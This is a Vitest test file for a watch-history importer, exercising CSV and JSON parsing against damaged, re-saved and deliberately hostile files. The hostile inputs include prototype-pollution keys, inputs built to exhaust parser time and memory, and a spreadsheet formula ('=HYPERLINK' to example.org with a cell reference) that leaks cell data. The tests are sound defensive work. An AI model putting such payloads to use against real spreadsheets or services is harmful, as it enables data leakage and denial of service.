import fc from 'fast-check'
import { expect, test } from 'vitest'
import { LIMITS } from './archive/limits.ts'
import { readImport } from './read-import.ts'
import { briefs } from './test/brief.ts'
import { csv, json, readFiles, type TestFiles } from './test/read-files.ts'

const HISTORY = 'title,year,tmdbId,imdbId,watchedAt'

async function problemsOf(files: TestFiles) {
  const { problems, records } = await readFiles(files)
  return {
    problems: problems.map(({ code, position }) => `${code} ${position.line}`),
    records: records.length,
  }
}

test.each([
  {
    what: 'a web page',
    content: '<!DOCTYPE html><html><body>Log in</body></html>',
    code: 'file-unreadable null',
  },
  { what: 'nothing', content: '\n\n', code: 'file-unreadable null' },
  {
    what: 'a picture',
    content: Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 13]),
    code: 'file-no-text null',
  },
  { what: 'XML', content: '<?xml version="1.0"?><myanimelist/>', code: 'file-unknown null' },
  { what: 'JSON without an end', content: '[{"plays": 1, "movie": ', code: 'json-damaged 1' },
])('$what called history.csv is a problem in words', async ({ content, code }) => {
  const name = code.startsWith('json') ? 'watched-movies.json' : 'history.csv'
  expect(await problemsOf({ [name]: content })).toEqual({ problems: [code], records: 0 })
})

test('JSON that is nested without end is refused', async () => {
  const deep = `[{"id":1,"watched_at":null,"type":"movie","movie":${'{"a":'.repeat(200_000)}`
  expect(await problemsOf({ 'watched-history-1.json': deep })).toEqual({
    problems: ['json-too-deep 1'],
    records: 0,
  })
})

test('names of Object.prototype are no fields and no columns', async () => {
  const files = {
    'watched-history-1.json': '[{"__proto__":{"type":"movie"},"constructor":{"type":"movie"},"id":1}]',
    'history.csv': csv(`${HISTORY},__proto__,constructor`, '__proto__,1999,1,,2020-01-01,x,y'),
    'lists-prod-lists.csv': csv(
      's_key,name,type,objects',
      '__proto__,constructor,list,[map[__proto__:1 type:series id:5]]',
    ),
    'SimklBackup.json': json({ movies: [{ status: 'constructor', movie: { title: 'toString', ids: {} } }] }),
    'ratings-live-votes.csv': csv('episode_id,movie_name,uuid,vote_key', '0,a,b,0-0-constructor'),
  }
  const reading = await readFiles(files)

  expect(({} as Record<string, unknown>).type).toBeUndefined()
  expect(reading.problems.map(({ code }) => code)).toEqual(['entry-incomplete'])
  expect(reading.records.map(({ title }) => title.name).sort()).toEqual(['__proto__', null])
})

test('rows that are too long, and those with too many or too few cells, are reported by line', async () => {
  const files = {
    'history.csv': csv(
      HISTORY,
      `${'x'.repeat(200_000)},1999,1,,2020-01-01`,
      'The Orchard,1999,700001,,2020-01-01',
      'Comma, Shifted,1999,700002,,2020-01-01',
      'Short,1999',
      'Padded,1999,700003,,2020-01-01,,',
    ),
  }
  expect(await problemsOf(files)).toEqual({
    problems: ['row-damaged 2', 'row-damaged 4', 'row-damaged 5'],
    records: 2,
  })
})

test('a quote that is never closed is reported, and what came before is taken', async () => {
  const rows = [
    'The Orchard,1999,700001,,2020-01-01',
    '"Open,1999,700002,,2020-01-01',
    'Lost,1999,700003,,2020-01-01',
  ]
  const { problems, records } = await problemsOf({ 'history.csv': csv(HISTORY, ...rows) })

  expect(problems).toEqual(['row-damaged 3'])
  expect(records).toBe(1)
})

test('a table that a spreadsheet saved again is read: another delimiter, encoding and line ends', async () => {
  const text = csv(HISTORY, 'Amélie,2001,194,,2020-01-01').replaceAll(',', ';').replaceAll('\n', '\r\n')
  const latin = Uint8Array.from(text, (sign) => sign.charCodeAt(0))
  const wide = Uint8Array.from([
    0xff,
    0xfe,
    ...[...text.replaceAll(';', '\t')].flatMap((sign) => [sign.charCodeAt(0), 0]),
  ])

  for (const content of [latin, wide]) {
    const reading = await readFiles({ 'history.csv': content })
    expect(reading.records.map(({ title }) => title.name)).toEqual(['Amélie'])
  }
})

test('a table that Excel saved again names its delimiter and begins with a mark', async () => {
  const table = csv(HISTORY, 'Amélie,2001,194,,2020-01-01').replaceAll(',', ';').replaceAll('\n', '\r\n')
  const reading = await readFiles({ 'history.csv': `\uFEFFsep=;\r\n${table}` })

  expect(reading.problems).toEqual([])
  expect(reading.records.map(({ title, position }) => [title.name, position.line])).toEqual([['Amélie', 3]])
})

test('rows and columns that a spreadsheet left empty are none', async () => {
  const reading = await readFiles({
    'followed_tv_show.csv': csv(
      'tv_show_id,created_at,active,archived,tv_show_name,,',
      '900001,2019-03-01 10:00:00,1,0,Harbour Lights,,',
      ',,,,,,',
    ),
    'NetflixViewingHistory.csv': csv('Title,Date,,', 'The Orchard,13/1/2024,,', ' ,,,'),
  })

  expect(briefs(reading)).toEqual([
    'play title The Orchard 2024-01-13',
    'watchlist series Harbour Lights tvdb:900001 ~2019-03-01T10:00Z',
  ])
  expect(reading.problems).toEqual([])
  expect(reading.files.map(({ entries }) => entries)).toEqual([1, 1])
})

test('a file of an archive that was saved twice is known by its name', async () => {
  const show = { title: 'Harbour Lights', year: 2021, ids: { tmdb: 800001 } }
  const dropped = JSON.stringify([{ hidden_at: '2024-01-01T00:00:00.000Z', type: 'show', show }])
  const names = ['hidden-dropped (1).json', 'hidden-dropped copy.json', 'hidden-dropped - Copy.json']

  for (const name of [
    ...names,
    'hidden-dropped 2.json',
    'Copy of hidden-dropped.json',
    'hidden-dropped(3).json',
  ])
    expect(briefs(await readFiles({ [name]: dropped })), name).toEqual([
      'following series Harbour Lights 2021 tmdb:800001 dropped ~2024-01-01T00:00Z',
    ])
})

test('a formula is a title like any other', async () => {
  const formula = '=HYPERLINK("https://example.org/?"&A1)'
  const reading = await readFiles({
    'history.csv': csv(HISTORY, `"${formula.replaceAll('"', '""')}",1999,1,,2020-01-01`),
  })
  expect(reading.records.map(({ title }) => title.name)).toEqual([formula])
})

test('a folder, or a file that was moved since, says to choose it again', async () => {
  const gone = () => Promise.reject(new DOMException('It is gone.', 'NotFoundError'))
  const folder = Object.assign(new Blob(), { slice: () => ({ arrayBuffer: gone }) })
  const stream = () => new ReadableStream({ pull: () => gone() })
  const moved = Object.assign(new Blob([csv(HISTORY)]), { stream })
  const { problems, files } = await readImport([
    { path: 'export', blob: folder },
    { path: 'history.csv', blob: moved },
    { path: 'diary.csv', blob: new Blob([csv(HISTORY, 'The Orchard,1999,1,,2020-01-01')]) },
  ])

  expect(problems.map(({ code, position }) => `${code} ${position.file}`)).toEqual([
    'file-unreadable export',
    'file-unreadable history.csv',
  ])
  expect(files.map(({ path, status }) => `${status} ${path}`)).toEqual([
    'read diary.csv',
    'damaged history.csv',
  ])
})

test('problems beyond five hundred are counted', async () => {
  const rows = Array.from({ length: 700 }, () => 'x,1999,1,,no date')
  const { problems, problemCount } = await readFiles({ 'history.csv': csv(HISTORY, ...rows) })

  expect([problems.length, problemCount]).toEqual([500, 700])
})

/** Names and beginnings that make one reader or another take a file. */
const NAMES = [
  'watched-history-1.json',
  'SimklBackup.json',
  'showly.json',
  'shows.json',
  'export.json',
  'diary.csv',
]
const TABLES = ['tracking-prod-records-v2.csv', 'lists-prod-lists.csv', 'lists/a.csv', 'ratings.csv', 'x.csv']
const STARTS = [
  '[{"id":1,"type":"episode","watched_at":"2020-01-01","show":',
  '{"shows":[{"status":"completed","show":',
  '{"version":2,"shows":{"cH":[{"id":1,"t":',
  '[{"tmdb_id":1,"title":"x","seasons":',
  '{"format":"marquee-export","version":2,"exportedAt":"x","plays":[{"id":1,"type":"movies","key":',
  '[{"status":"FINISHED","content":{"tmdbId":1,"type":"tv","title":',
  '[{"uuid":"a","id":{"tvdb":1},"title":"x","is_watched":true,"seasons":[{"number":1,"episodes":',
]
const HEADERS = [
  'key,s_id,uuid,created_at,ep_id,s_no,ep_no,series_name',
  's_key,name,type,objects',
  'Letterboxd list export v7',
  'Const,Your Rating,Date Rated,Title,Title Type,Year',
  'SIMKL_ID,Title,Type,Year,Watchlist,LastEpWatched,WatchedDate,Rating,Memo',
  '"media_id","source","media_type","title","season_number","episode_number","score","status"',
  'Title,Date',
]

test('whatever a file holds, reading it throws nothing', async () => {
  const jsonFile = fc.tuple(
    fc.constantFrom(...NAMES),
    fc.constantFrom(...STARTS),
    fc.jsonValue({ maxDepth: 4 }),
  )
  const cell = fc.oneof(
    fc.string(),
    fc.constantFrom('', '"', '1', '-1', '2020-01-01', '<nil>', 'map[', '1e9', 'list'),
  )
  const row = fc.array(cell, { maxLength: 9 }).map((cells) => cells.join(','))
  const table = fc.tuple(
    fc.constantFrom(...TABLES),
    fc.constantFrom(...HEADERS),
    fc.array(row, { maxLength: 6 }),
  )

  await fc.assert(
    fc.asyncProperty(jsonFile, table, async ([name, start, value], [tableName, header, rows]) => {
      const closing = start.startsWith('{') ? '}]}' : '}]'
      const reading = await readFiles({
        [name]: `${start}${JSON.stringify(value)}${closing}`,
        [`more/${name}`]: JSON.stringify([
          value,
          { type: 'movie', movie: value, ids: value, content: value },
        ]),
        [tableName]: [header, ...rows].join('\n'),
      })
      for (const { position } of reading.problems) expect(position.file).not.toBe('')
      expect(JSON.stringify(reading)).not.toContain('NaN')
    }),
    { numRuns: 300 },
  )
})

/** Files made so that reading them takes more and more time, or memory, for each character. */
test.each<{ what: string; files: TestFiles; expected: { problems: string[]; records: number } }>([
  {
    what: 'a text of JSON without an end, full of quotes',
    files: { 'watched-history-1.json': `[{"a":"${'\\"'.repeat(400_000)}` },
    expected: { problems: ['json-damaged 1'], records: 0 },
  },
  {
    what: 'signs of JSON between which nothing stands',
    files: { 'watched-history-1.json': `{"a":1${':'.repeat(2_000_000)}}` },
    expected: { problems: ['json-damaged 1'], records: 0 },
  },
  {
    what: 'a table with stray quotes before many blanks',
    files: { 'history.csv': `${HISTORY}\n"${'" x'.repeat(400_000)}${' '.repeat(1_200_000)},` },
    expected: { problems: ['row-damaged 2'], records: 0 },
  },
  {
    what: 'a table with stray quotes before many empty cells',
    files: {
      'history.csv': `${HISTORY.replaceAll(',', '\t')}\n"${'" x'.repeat(250_000)}${'\t'.repeat(800_000)}\n`,
    },
    expected: { problems: ['row-damaged 2'], records: 0 },
  },
  {
    what: 'as many lists as entries of lists',
    files: {
      'lists-lists.json': json(Array.from({ length: 80_000 }, (_, id) => ({ ids: { trakt: id } }))),
      'lists-list-80000-x.json': `[${'{"type":"person"},'.repeat(200_000)}{}]`,
    },
    expected: { problems: ['entry-incomplete 1'], records: 0 },
  },
  {
    what: 'a name that repeats what a name of a table has',
    files: { [`ratings-${'votes'.repeat(120_000)}.txt`]: '[]' },
    expected: { problems: [], records: 0 },
  },
])('$what is read in time', async ({ files, expected }) => {
  expect(await problemsOf(files)).toEqual(expected)
})

test.each<{ what: string; files: TestFiles }>([
  {
    what: 'a table',
    files: {
      'watches.csv': csv(
        'tmdb_id,tvdb_id,type,title,first_watched_at,last_watched_at,plays',
        ...Array.from({ length: 200 }, (_, id) => `${id + 1},,movie,The Orchard,,,1000`),
      ),
    },
  },
  {
    what: 'JSON',
    files: {
      'movies.json': json(
        Array.from({ length: 200 }, (_, id) => ({
          ...{ tmdb_id: id + 1, in_watchlist: false, watched: true, plays: 1000 },
        })),
      ),
    },
  },
  {
    what: 'JSON that is put together at its end',
    files: {
      'watched-movies.json': json(
        Array.from({ length: 200 }, (_, id) => ({
          plays: 1000,
          movie: { title: 'x', ids: { tmdb: id + 1 } },
        })),
      ),
    },
  },
])('$what of few rows that mean many plays is read up to a limit, and says so', async ({ files }) => {
  const limits = { ...LIMITS, records: 5000 }
  const { records, problems } = await readFiles(files, { limits })
  expect(records).toHaveLength(5000)
  expect(problems.map(({ code, position }) => [code, position.file])).toEqual([
    ['file-too-large', Object.keys(files)[0]],
  ])
})
